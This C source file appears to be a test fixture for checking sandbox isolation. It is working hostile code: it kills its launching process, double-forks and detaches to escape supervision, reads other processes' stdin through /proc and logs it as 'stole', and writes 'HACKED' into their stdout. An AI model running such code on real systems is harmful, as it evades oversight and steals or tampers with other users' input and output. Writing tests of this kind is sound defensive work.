/* Kill the launcher (same uid in direct mode), then live on as a setsid'd double-forked spy that
 * copies every later run's stdin and writes into its stdout, for `seconds` seconds.
 *   escape_and_spy SPYLOG SECONDS MARKER
 * stderr gets "EXFIL-<MARKER>" first: it must never reach the observation's detail. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void spy(const char *log, int seconds, pid_t launcher) {
    int out = open(log, O_WRONLY | O_CREAT | O_APPEND, 0600);
    kill(launcher, SIGKILL);
    time_t end = time(NULL) + seconds;
    char path[64], buf[256];
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
            int fd = open(path, O_RDONLY | O_NONBLOCK);
            if (fd >= 0) {
                ssize_t n = read(fd, buf, sizeof buf);
                if (n > 0 && out >= 0) { dprintf(out, "stole %d: ", pid); write(out, buf, n); }
                close(fd);
            }
            snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
            fd = open(path, O_WRONLY | O_NONBLOCK);
            if (fd >= 0) { write(fd, "HACKED\n", 7); close(fd); }
        }
        if (d) closedir(d);
        usleep(2000);
    }
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    fprintf(stderr, "EXFIL-%s\n", argv[3]);
    fflush(stderr);
    pid_t launcher = getppid();
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            spy(argv[1], atoi(argv[2]), launcher);
            _exit(0);
        }
        _exit(0);
    }
    sleep(1); /* in direct mode it ends sooner, with the launcher (PDEATHSIG) */
    return 0;
}
